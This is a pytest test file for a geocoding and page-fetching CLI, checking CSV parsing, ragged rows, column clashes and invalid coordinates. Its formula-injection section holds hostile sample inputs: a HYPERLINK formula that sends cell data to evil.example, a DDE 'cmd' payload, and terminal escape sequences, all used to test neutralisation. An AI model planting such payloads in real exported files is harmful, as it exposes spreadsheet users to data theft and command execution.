"""Issue 13, "Never lose, shift or swallow a row": how rows are read and written.

Delimiters (case 2), ragged rows (3), runaway quotes (4), column names (5),
coordinates a provider should never have sent (7), and cells that would run as
formulas or terminal escapes (8). Every test asserts the content of every output
cell, the exit status and the stderr line.
"""

from __future__ import annotations

import csv
import io
import json
import re
from urllib.parse import quote

import pytest

from geofetch.testing.site import LocalSite

from .rowtools import NominatimStub, one_line, place, sha256, strict_json, strict_jsonl

BERLIN = ["52.52437", "13.41053", "Berlin, Germany", "ok", ""]
PARIS = ["48.85341", "2.3488", "Paris, France", "ok", ""]
ROME = ["41.89193", "12.51133", "Rome, Italy", "ok", ""]
LYON = ["45.74906", "4.84789", "Lyon, France", "ok", ""]
GRAZ = ["47.06733", "15.44197", "Graz, Austria", "ok", ""]
OUT = ["lat", "lng", "formatted_address", "status", "error"]


def table(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def summary(ok: int = 0, not_found: int = 0, invalid: int = 0, failed: int = 0) -> str:
    total = ok + not_found + invalid + failed
    return (f"{total} rows: {ok} ok, {not_found} not_found, {invalid} invalid, "
            f"{failed} failed in ")


def assert_summary(stderr: str, **counts: int) -> None:
    assert one_line(stderr).startswith(summary(**counts)), stderr


# -- 2. delimiters ------------------------------------------------------------------

EXCEL_EU = b"\xef\xbb\xbfname;address;zip\r\nShop A;Lyon;69001\r\nShop B;Graz;8010\r\n"


def test_semicolon_csv_with_bom_and_crlf_is_read_by_its_columns(cli, tmp_path):
    source = tmp_path / "shops.csv"
    source.write_bytes(EXCEL_EU)
    result = cli(["geocode", source])
    assert result.status == 0
    assert table(result.stdout, ";") == [
        ["name", "address", "zip", *OUT],
        ["Shop A", "Lyon", "69001", *LYON],
        ["Shop B", "Graz", "8010", *GRAZ],
    ]
    assert_summary(result.stderr, ok=2)


def test_a_quoted_comma_in_a_semicolon_file_stays_one_cell(cli, tmp_path):
    source = tmp_path / "shops.csv"
    source.write_bytes(b'\xef\xbb\xbfname;address;zip\r\nShop A;"Lyon, France";69001\r\n'
                       b'Shop B;"Graz, Austria";8010\r\n')
    result = cli(["geocode", source, "--format", "jsonl"])
    assert result.status == 0
    rows = strict_jsonl(result.stdout)
    assert rows == [
        {"name": "Shop A", "address": "Lyon, France", "zip": "69001", "lat": 45.74906,
         "lng": 4.84789, "formatted_address": "Lyon, France", "status": "ok", "error": None},
        {"name": "Shop B", "address": "Graz, Austria", "zip": "8010", "lat": 47.06733,
         "lng": 15.44197, "formatted_address": "Graz, Austria", "status": "ok",
         "error": None},
    ]
    assert_summary(result.stderr, ok=2)


@pytest.mark.parametrize("delimiter", ["\t", "|", ";"])
def test_tab_pipe_and_semicolon_files_named_csv(cli, tmp_path, delimiter):
    source = tmp_path / "places.csv"
    source.write_text(delimiter.join(["id", "city", "note"]) + "\n"
                      + delimiter.join(["1", "Berlin", "a, b"]) + "\n"
                      + delimiter.join(["2", "Rome", "c"]) + "\n", encoding="utf-8")
    result = cli(["geocode", source])
    assert result.status == 0
    assert table(result.stdout, delimiter) == [
        ["id", "city", "note", *OUT],
        ["1", "Berlin", "a, b", *BERLIN],
        ["2", "Rome", "c", *ROME],
    ]
    assert_summary(result.stderr, ok=2)


def test_a_txt_file_whose_header_is_in_a_csv_dialect_is_read_as_csv(cli, tmp_path):
    source = tmp_path / "shops.txt"
    source.write_bytes(EXCEL_EU)
    result = cli(["geocode", source])
    assert result.status == 0
    assert table(result.stdout, ";") == [
        ["name", "address", "zip", *OUT],
        ["Shop A", "Lyon", "69001", *LYON],
        ["Shop B", "Graz", "8010", *GRAZ],
    ]


def test_a_plain_txt_list_stays_one_place_per_line(cli, tmp_path):
    source = tmp_path / "places.txt"
    source.write_text("Paris, France\nRome;Italy\nBerlin\n", encoding="utf-8")
    result = cli(["geocode", source])
    assert result.status == 0
    rows = table(result.stdout)
    assert rows[0] == ["place", *OUT]
    assert [r[0] for r in rows[1:]] == ["Paris, France", "Rome;Italy", "Berlin"]
    assert rows[1][1:] == PARIS
    assert rows[3][1:] == BERLIN


def test_delimiter_forces_the_input_dialect(cli, tmp_path):
    source = tmp_path / "odd.csv"
    # "," and "|" split this header equally; "," would win the tie
    source.write_text("city|x,y\nParis|1,2\n", encoding="utf-8")
    guessed = cli(["geocode", source])
    assert guessed.status == 2
    assert "city|x" in one_line(guessed.stderr)
    forced = cli(["geocode", source, "--delimiter", "|"])
    assert forced.status == 0
    assert table(forced.stdout, "|") == [["city", "x,y", *OUT], ["Paris", "1,2", *PARIS]]


@pytest.mark.parametrize(("flag", "delimiter"), [(",", ","), ("\\t", "\t"), ("|", "|")])
def test_output_delimiter(cli, tmp_path, flag, delimiter):
    source = tmp_path / "shops.csv"
    source.write_bytes(EXCEL_EU)
    result = cli(["geocode", source, "--output-delimiter", flag])
    assert result.status == 0
    assert table(result.stdout, delimiter) == [
        ["name", "address", "zip", *OUT],
        ["Shop A", "Lyon", "69001", *LYON],
        ["Shop B", "Graz", "8010", *GRAZ],
    ]


def test_a_one_column_file_keeps_every_delimiter_in_its_cells(cli, tmp_path):
    source = tmp_path / "addresses.csv"
    source.write_text('address\n1 Main St, Springfield\nParis, "TX"\n"Rome; Italy"\nBerlin|x\n',
                      encoding="utf-8")
    result = cli(["geocode", source])
    assert result.status == 0
    assert table(result.stdout) == [
        ["address", *OUT],
        ["1 Main St, Springfield", "37.21533", "-93.29824",
         "Springfield, Missouri, United States", "ok", ""],
        ['Paris, "TX"', "33.66094", "-95.55551", "Paris, Texas, United States", "ok", ""],
        ["Rome; Italy", *ROME],
        ["Berlin|x", *BERLIN],
    ]
    assert_summary(result.stderr, ok=4)


@pytest.mark.parametrize("flag", ["--delimiter", "--output-delimiter"])
@pytest.mark.parametrize("value", ["ab", '"', "x", ""])
def test_a_bad_delimiter_is_a_usage_error(cli, tmp_path, flag, value):
    source = tmp_path / "in.csv"
    source.write_text("place\nBerlin\n", encoding="utf-8")
    result = cli(["geocode", source, flag, value])
    assert result.status == 2
    assert result.stdout == ""
    assert "delimiter" in one_line(result.stderr)


# -- 3. ragged rows -----------------------------------------------------------------

EXTRA_ERROR = ('MalformedRow: line 2 has 4 fields, the header has 2; '
               'the extra cells: ["EXTRA1", "EXTRA2"]')


def test_extra_cells_never_land_under_output_columns(cli, tmp_path):
    source = tmp_path / "ragged.csv"
    source.write_text("id,place\n1,Berlin,EXTRA1,EXTRA2\n", encoding="utf-8")
    result = cli(["geocode", source])
    assert result.status == 0
    assert table(result.stdout) == [
        ["id", "place", *OUT],
        ["1", "Berlin", "", "", "", "invalid", EXTRA_ERROR],
    ]
    assert_summary(result.stderr, invalid=1)


def test_extra_cells_are_kept_in_jsonl(cli, tmp_path):
    source = tmp_path / "ragged.csv"
    source.write_text("id,place\n1,Berlin,EXTRA1,EXTRA2\n", encoding="utf-8")
    result = cli(["geocode", source, "--format", "jsonl"])
    assert result.status == 0
    [row] = strict_jsonl(result.stdout)
    assert row == {"id": "1", "place": "Berlin", "lat": None, "lng": None,
                   "formatted_address": None, "status": "invalid", "error": EXTRA_ERROR}
    extras = json.loads(row["error"].split("the extra cells: ", 1)[1])
    assert extras == ["EXTRA1", "EXTRA2"]


RAGGED = "id,place,note\n1,Berlin,a\n2,Paris,b,EXTRA,\"x,y\"\n3,Rome\n\n4\n5,Rome,c\n"


def test_short_long_and_good_rows_keep_their_order_and_cells(cli, tmp_path):
    source = tmp_path / "ragged.csv"
    source.write_text(RAGGED, encoding="utf-8")
    result = cli(["geocode", source, "--executor", "serial"])
    assert result.status == 0
    assert table(result.stdout) == [
        ["id", "place", "note", *OUT],
        ["1", "Berlin", "a", *BERLIN],
        ["2", "Paris", "b", "", "", "", "invalid",
         'MalformedRow: line 3 has 5 fields, the header has 3; '
         'the extra cells: ["EXTRA", "x,y"]'],
        ["3", "Rome", "", "", "", "", "invalid",
         "MalformedRow: line 4 has 2 fields, the header has 3"],
        ["4", "", "", "", "", "", "invalid",
         "MalformedRow: line 6 has 1 field, the header has 3"],
        ["5", "Rome", "c", *ROME],
    ]
    assert_summary(result.stderr, ok=2, invalid=3)


def test_ragged_rows_in_geojson_and_table(cli, tmp_path):
    source = tmp_path / "ragged.csv"
    source.write_text(RAGGED, encoding="utf-8")
    geojson = cli(["geocode", source, "--format", "geojson"])
    assert geojson.status == 0
    document = strict_json(geojson.stdout)
    assert [f["properties"]["id"] for f in document["features"]] == ["1", "5"]
    assert_summary(geojson.stderr, ok=2, invalid=3)
    text = cli(["geocode", source, "--format", "table"])
    assert text.stdout.splitlines() == [
        "Berlin, Germany,  52.52,  13.41",
        'Paris: invalid MalformedRow: line 3 has 5 fields, the header has 3; '
        'the extra cells: ["EXTRA", "x,y"]',
        "Rome: invalid MalformedRow: line 4 has 2 fields, the header has 3",
        ": invalid MalformedRow: line 6 has 1 field, the header has 3",
        "Rome, Italy,  41.89,  12.51",
    ]


# -- 4. a quote that never closes -----------------------------------------------------


def _quoted_file(path, lines: int, opened_on: int) -> None:
    rows = ["id,place"] + [f"{n},Berlin" for n in range(1, lines)]
    rows[opened_on - 1] = f'{opened_on - 1},"Berlin'
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")


@pytest.mark.parametrize(("lines", "opened_on"), [(1000, 3), (1000, 951), (10, 4), (2, 2)])
def test_an_unterminated_quote_is_an_input_error_naming_its_line(cli, tmp_path, lines,
                                                                 opened_on):
    source = tmp_path / "quote.csv"
    _quoted_file(source, lines, opened_on)
    result = cli(["geocode", source, "--format", "jsonl"])
    assert result.status == 2, result.stderr
    message = one_line(result.stderr)
    assert message.startswith(f"geofetch: error: {source}: a quoted field opened on line "
                              f"{opened_on} ")
    # nothing swallowed into a row: at most the rows before the quote were written
    assert len(strict_jsonl(result.stdout)) <= opened_on - 2


def test_an_unterminated_quote_leaves_the_old_output_in_place(cli, tmp_path):
    source = tmp_path / "quote.csv"
    _quoted_file(source, 1000, 3)
    output = tmp_path / "out.csv"
    output.write_text("a good file\n", encoding="utf-8")
    before = sha256(output)
    result = cli(["geocode", source, "-o", output])
    assert result.status == 2
    assert "line 3" in one_line(result.stderr)
    assert sha256(output) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv", "quote.csv"]


def test_an_unterminated_quote_in_the_header(cli, tmp_path):
    source = tmp_path / "quote.csv"
    source.write_text('id,"place\nBerlin\nParis\n', encoding="utf-8")
    result = cli(["geocode", source])
    assert result.status == 2
    assert "opened on line 1 " in one_line(result.stderr)


def test_a_multiline_quoted_cell_that_closes_is_one_cell(cli, tmp_path):
    source = tmp_path / "multi.csv"
    source.write_text('id,place,note\n1,Berlin,"two\nlines"\n2,Rome,x\n', encoding="utf-8")
    result = cli(["geocode", source])
    assert result.status == 0
    assert table(result.stdout) == [
        ["id", "place", "note", *OUT],
        ["1", "Berlin", "two\nlines", *BERLIN],
        ["2", "Rome", "x", *ROME],
    ]


# -- 5. column names ------------------------------------------------------------------

CLASH = "place,place,x,status,lat,error\nBerlin,Paris,1,S,L,E\n"


def test_repeated_and_clashing_names_in_csv(cli, tmp_path):
    source = tmp_path / "clash.csv"
    source.write_text(CLASH, encoding="utf-8")
    result = cli(["geocode", source])
    assert result.status == 0
    assert table(result.stdout) == [
        ["place", "place", "x", "status", "lat", "error",
         "geofetch_lat", "lng", "formatted_address", "geofetch_status", "geofetch_error"],
        ["Berlin", "Paris", "1", "S", "L", "E", *BERLIN],
    ]


def test_repeated_and_clashing_names_in_jsonl(cli, tmp_path):
    source = tmp_path / "clash.csv"
    source.write_text(CLASH, encoding="utf-8")
    result = cli(["geocode", source, "--format", "jsonl"])
    assert result.status == 0
    [row] = strict_jsonl(result.stdout)
    assert list(row.items()) == [
        ("place", "Berlin"), ("place_2", "Paris"), ("x", "1"), ("status", "S"),
        ("lat", "L"), ("error", "E"), ("geofetch_lat", 52.52437), ("lng", 13.41053),
        ("formatted_address", "Berlin, Germany"), ("geofetch_status", "ok"),
        ("geofetch_error", None),
    ]


def test_repeated_and_clashing_names_in_geojson(cli, tmp_path):
    source = tmp_path / "clash.csv"
    source.write_text(CLASH, encoding="utf-8")
    result = cli(["geocode", source, "--format", "geojson"])
    assert result.status == 0
    document = strict_json(result.stdout)
    [feature] = document["features"]
    assert feature["geometry"] == {"type": "Point", "coordinates": [13.41053, 52.52437]}
    assert feature["properties"] == {
        "place": "Berlin", "place_2": "Paris", "x": "1", "status": "S", "lat": "L",
        "error": "E", "formatted_address": "Berlin, Germany", "geofetch_status": "ok",
        "geofetch_error": None,
    }


def test_a_column_named_like_a_suffixed_key_keeps_its_name(cli, tmp_path):
    source = tmp_path / "names.csv"
    source.write_text("place,place,place_2,,geofetch_status,status\n"
                      "Berlin,b,c,d,e,f\n", encoding="utf-8")
    result = cli(["geocode", source, "--format", "jsonl"])
    assert result.status == 0
    [row] = strict_jsonl(result.stdout)
    assert list(row.items()) == [
        ("place", "Berlin"), ("place_3", "b"), ("place_2", "c"), ("_4", "d"),
        ("geofetch_status", "e"), ("status", "f"),
        ("lat", 52.52437), ("lng", 13.41053), ("formatted_address", "Berlin, Germany"),
        ("geofetch_2_status", "ok"), ("error", None),
    ]


def test_fetch_columns_clash_too(cli, tmp_path):
    with LocalSite() as site:
        source = tmp_path / "urls.csv"
        source.write_text(f"url,title,status\n{site.url}/page/a,T,S\n", encoding="utf-8")
        result = cli(["fetch", source, "--format", "jsonl", "--no-progress"])
    assert result.status == 0, result.stderr
    [row] = strict_jsonl(result.stdout)
    assert row["url"] == f"{site.url}/page/a"
    assert (row["title"], row["status"]) == ("T", "S")
    assert (row["geofetch_title"], row["geofetch_status"]) == ("Page a", "ok")


# -- 7. coordinates a provider should never send ------------------------------------

BAD_ANSWERS = {
    "nan-string": (place("NaN", "13.4", "A"), "InvalidAnswer: lat is not finite: nan"),
    "nan-number": (b'[{"lat": NaN, "lon": 1.0, "display_name": "B"}]',
                   "InvalidAnswer: lat is not finite: nan"),
    "infinity": (place("52.5", "Infinity", "C"), "InvalidAnswer: lng is not finite: inf"),
    "huge": (b'[{"lat": "1e999", "lon": "2", "display_name": "D"}]',
             "InvalidAnswer: lat is not finite: inf"),
    "huge-number": (b'[{"lat": 1e999, "lon": 2, "display_name": "D"}]',
                    "InvalidAnswer: lat is not finite: inf"),
    "lat-999": (place("999", "13.4", "E"), "InvalidAnswer: lat 999.0 is outside -90..90"),
    "lng-200": (place("10", "-200.5", "F"),
                "InvalidAnswer: lng -200.5 is outside -180..180"),
}


def _coordinates_input(tmp_path):
    source = tmp_path / "places.csv"
    source.write_text("place\n" + "\n".join([*BAD_ANSWERS, "good"]) + "\n", encoding="utf-8")
    return source


def _stub():
    answers = {query: body for query, (body, _) in BAD_ANSWERS.items()}
    answers["good"] = place("-33.5", "151.25", "Good Place")
    return NominatimStub(answers)


def _provider_args(url: str) -> list[str]:
    return ["--provider", "nominatim", "--base-url", url, "--no-cache", "--rate", "0",
            "--retries", "0", "--no-progress"]


def test_non_finite_or_out_of_range_coordinates_fail_the_row_csv(cli, tmp_path):
    source = _coordinates_input(tmp_path)
    with _stub() as stub:
        result = cli(["geocode", source, *_provider_args(stub.url)])
    assert result.status == 1
    rows = table(result.stdout)
    assert rows[0] == ["place", *OUT]
    expected = [[q, "", "", "", "failed", error] for q, (_, error) in BAD_ANSWERS.items()]
    expected.append(["good", "-33.5", "151.25", "Good Place", "ok", ""])
    assert rows[1:] == expected
    assert_summary(result.stderr, ok=1, failed=len(BAD_ANSWERS))


def test_non_finite_coordinates_never_reach_json(cli, tmp_path):
    source = _coordinates_input(tmp_path)
    with _stub() as stub:
        jsonl = cli(["geocode", source, "--format", "jsonl", *_provider_args(stub.url)])
        geojson = cli(["geocode", source, "--format", "geojson", *_provider_args(stub.url)])
    assert jsonl.status == geojson.status == 1
    rows = strict_jsonl(jsonl.stdout)
    assert [(r["place"], r["lat"], r["lng"], r["status"], r["error"]) for r in rows] == [
        *((q, None, None, "failed", error) for q, (_, error) in BAD_ANSWERS.items()),
        ("good", -33.5, 151.25, "ok", None),
    ]
    document = strict_json(geojson.stdout)
    assert document["type"] == "FeatureCollection"
    assert [f["geometry"]["coordinates"] for f in document["features"]] == [[151.25, -33.5]]
    assert_summary(geojson.stderr, ok=1, failed=len(BAD_ANSWERS))


# -- 8. formulas and terminal escapes -------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
ESCAPES = "\x1b]0;pwned\x07\x1b[31mRed\x1b[0m \x1b[2JTitle\x9b1m"


@pytest.mark.parametrize("title", [HYPERLINK, "+1+2", "-1-2", "@SUM(A1)"])
def test_a_formula_title_is_neutralised_in_csv(cli, tmp_path, title):
    with LocalSite() as site:
        page_url = f"{site.url}/title?t={quote(title)}"
        source = tmp_path / "urls.csv"
        source.write_text(f"note,url\n=1+1,{page_url}\n", encoding="utf-8")
        safe = cli(["fetch", source, "--no-progress"])
        raw = cli(["fetch", source, "--no-progress", "--raw-cells"])
        jsonl = cli(["fetch", source, "--no-progress", "--format", "jsonl"])
    assert safe.status == raw.status == jsonl.status == 0
    header, row = table(safe.stdout)
    assert header[:2] == ["note", "url"]
    cells = dict(zip(header, row, strict=True))
    assert cells["note"] == "=1+1"  # an input cell is written back unchanged
    assert cells["url"] == page_url
    assert cells["title"] == "'" + title
    assert cells["status"] == "ok"
    raw_cells = dict(zip(*table(raw.stdout), strict=True))
    assert raw_cells["title"] == title
    assert raw_cells["note"] == "=1+1"
    [record] = strict_jsonl(jsonl.stdout)
    assert record["title"] == title  # JSON is data, not a spreadsheet: unchanged


def test_selected_text_is_neutralised_too(cli, tmp_path):
    with LocalSite() as site:
        page_url = f"{site.url}/title?t={quote(HYPERLINK)}"
        result = cli(["fetch", "-", "--no-progress", "--select", "p.item"],
                     stdin=page_url + "\n")
    assert result.status == 0
    cells = dict(zip(*table(result.stdout), strict=True))
    assert cells["selected"] == "'" + HYPERLINK


def test_table_output_strips_terminal_escapes_from_titles(cli, tmp_path):
    with LocalSite() as site:
        page_url = f"{site.url}/title?t={quote(ESCAPES)}"
        result = cli(["fetch", "-", "--no-progress", "--format", "table"],
                     stdin=page_url + "\n")
    assert result.status == 0
    [line] = result.stdout.splitlines()
    assert line == f"{page_url}: 200 ]0;pwned[31mRed[0m [2JTitle1m"
    assert not re.search(r"[\x00-\x08\x0a-\x1f\x7f-\x9f]", line)


FORMULA_ANSWERS = {
    "eq": "=cmd|' /C calc'!A0",
    "plus": "+41 Main Street",
    "minus": "-3 Rue de Rivoli",
    "at": "@Berlin",
    "tab": "\tTabbed",
    "cr": "\rReturned",
    "plain": "Plain, Place",
}


def test_formula_addresses_from_a_provider_are_neutralised(cli, tmp_path):
    source = tmp_path / "places.csv"
    lines = ["place,formula"] + [f"{q},=1+1" for q in FORMULA_ANSWERS]
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    answers = {q: place("1.5", "2.5", name) for q, name in FORMULA_ANSWERS.items()}
    with NominatimStub(answers) as stub:
        safe = cli(["geocode", source, *_provider_args(stub.url)])
        raw = cli(["geocode", source, "--raw-cells", *_provider_args(stub.url)])
    assert safe.status == raw.status == 0
    expected = [[q, "=1+1", "1.5", "2.5", name if q == "plain" else "'" + name, "ok", ""]
                for q, name in FORMULA_ANSWERS.items()]
    assert table(safe.stdout) == [["place", "formula", *OUT], *expected]
    assert table(raw.stdout) == [["place", "formula", *OUT],
                                 *([q, "=1+1", "1.5", "2.5", name, "ok", ""]
                                   for q, name in FORMULA_ANSWERS.items())]
    assert_summary(safe.stderr, ok=len(FORMULA_ANSWERS))


def test_table_output_strips_terminal_escapes_from_addresses(cli, tmp_path):
    answers = {"x": place("1.5", "2.5", "\x1b[2J\x1b[HFake\rPlace\n")}
    with NominatimStub(answers) as stub:
        result = cli(["geocode", "-", "--format", "table", *_provider_args(stub.url)],
                     stdin="x\n\x1b[31mbad\x1b[0m\n   \n")
    assert result.status == 0
    assert result.stdout.splitlines() == [
        "[2J[HFakePlace,   1.50,   2.50",
        "Found: [31mbad[0m,  52.50,  13.40",
        "   : invalid InvalidQuery: blank place",
    ]


def test_a_stale_cache_entry_with_infinity_still_gives_strict_json(cli, tmp_path):
    from geofetch.cache import CacheEntry, SQLiteCache
    from geofetch.normalize import normalize_query

    cache = tmp_path / "cache.sqlite"
    with NominatimStub() as stub:
        stored = SQLiteCache(cache)
        stored.put(f"nominatim|{stub.url}|language=", normalize_query("Stale"),
                   CacheEntry("ok", float("inf"), 2.0, "Stale Place"))
        stored.close()
        jsonl = cli(["geocode", "-", "--format", "jsonl", "--cache", cache, "--rate", "0",
                     "--provider", "nominatim", "--base-url", stub.url], stdin="Stale\n")
        geojson = cli(["geocode", "-", "--format", "geojson", "--cache", cache, "--rate", "0",
                       "--provider", "nominatim", "--base-url", stub.url], stdin="Stale\n")
    assert stub.queries == []  # answered from the cache
    [row] = strict_jsonl(jsonl.stdout)
    assert (row["place"], row["lat"], row["lng"], row["status"]) == ("Stale", None, None,
                                                                     "failed")
    assert row["error"] == "InvalidAnswer: lat is not finite: inf"
    assert strict_json(geojson.stdout)["features"] == []


def test_an_input_error_before_the_first_row_writes_nothing_to_standard_output(cli, tmp_path):
    # Before: the CSV header went to stdout, then the error, exit 2.
    source = tmp_path / "in.csv"
    source.write_text('place\n"Berlin\n' + "Osaka\n" * 200, encoding="utf-8")
    for fmt in ("csv", "geojson"):
        result = cli(["geocode", source, "--format", fmt])
        assert result.status == 2
        assert result.stdout == ""
        assert "quoted field opened on line 2" in result.stderr
